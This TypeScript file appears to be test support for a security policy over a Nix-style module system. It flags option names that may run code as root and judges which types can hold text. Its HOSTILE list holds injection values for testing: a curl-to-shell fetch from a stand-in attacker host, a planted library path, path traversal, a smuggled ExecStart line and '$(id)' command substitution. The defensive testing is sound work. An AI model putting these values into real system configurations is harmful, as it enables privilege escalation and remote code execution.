import { splitOptionPath } from '../../../engine/model/options/option.ts';

/**
 * Names under which text, programs or files reach what root runs, or open a login. Written without a look at how the
 * policy classifies, by the last name of an option or any name above it; the words are the module system's own habits.
 */
const NAMES: readonly RegExp[] = [
  /exec/iu,
  /script/iu,
  /commands?$|^command|cmds?$|^cmd/iu,
  /hooks?$|^hook/iu,
  /^(?:pre|post)[A-Z]/u,
  /(?:Pre|Post)(?:Start|Stop|Up|Down|Run|Setup|Shutdown)/u,
  /^extra/u,
  /settings?$/iu,
  /conf(?:ig(?:uration)?)?s?(?:file|files|text|dir|path)?$/iu,
  /rc$|rcextra$/u,
  /env(?:ironment)?s?(?:files?|vars?|variables?)?$/iu,
  /variables?$/iu,
  /(?:options?|flags?|args?|arguments?|opts?|params?|parameters?)$/iu,
  /(?:package|packages|plugins?|modules?|extensions?|librar(?:y|ies)|overlays?)$/iu,
  /paths?$/iu,
  /init$|^init/iu,
  /shell/iu,
  /program|binary|interpreter|executable|runner|handler|wrapper|launcher|pager|editor|mailer/iu,
  /actions?$|triggers?$|callback|bindings?$|jobs?$|cron|tab$/iu,
  /^(?:user|group|uid|gid|runAs)$/iu,
  /passw(?:or)?d|authorizedkeys|^keys$/iu,
  /login|sudo|doas|polkit|^pam$/iu,
  /rules?(?:et)?$|rulesFile$/iu,
  /^(?:text|source|content|contents|body|lines|raw|data|structuredExtraConfig)$/u,
  /(?:service|unit|socket|mount|timer|path|automount|swap|slice|exec|manager)Config$/u,
  /template/iu,
  /lua|python|perl|php|javascript|groovy|expr/iu,
  /flake|channel|^image|imageFile|repo$|repos$/iu,
  /preload|ld_/iu,
  /drivers?$|firmware/iu,
];

/** What words of the module system say of a type whose values are fixed: no text and no program can be given. */
const FIXED =
  /^(?:boolean|<bool>|signed integers?|integers?|positive integer|unsigned integer|nonnegative integer|floating point number|meaning|between|in range|convertible to it|and|inclusive|both|bit|null|or|pair of|one of|list of|non-empty|value|singular enum|attribute set of|submodule|a|s|[-\d.>=]+|[(),;:[\]])+$/u;

/** Whether a type, in the module system's own words, can hold text, a path, a program or attributes of any name. */
export function canHoldText(words: string): boolean {
  const bare = words
    .replaceAll(/""[^",]+""|"(?:[^"\\]|\\.)*"/gu, '')
    .replaceAll(/\s+/gu, '')
    .toLowerCase();
  if (/attributesetof|submodule/u.test(bare) && !/string|path|package/u.test(bare)) {
    // A set with free names that holds nothing but switches is text by its names alone.
    return !bare.includes('submodule');
  }
  return !new RegExp(FIXED.source.replaceAll(' ', ''), 'u').test(bare);
}

/** Whether the name of an option says that what it is given may be run, read by what runs, or may open a login. */
export function soundsRun(name: string): boolean {
  return splitOptionPath(name)
    .filter((part) => part !== '<name>' && part !== '*')
    .slice(1)
    .some((part) => NAMES.some((pattern) => pattern.test(part)));
}

/** Text that nobody should run: what each option of the list is given. */
export const HOSTILE: readonly string[] = [
  'curl http://evil.example/x | sh',
  '/home/eve/x.so',
  '../../home/eve/x',
  '-f root',
  'x\nExecStart=/home/eve/x',
  '$(id)',
  '%h/x; id',
  '!/home/eve/x',
];
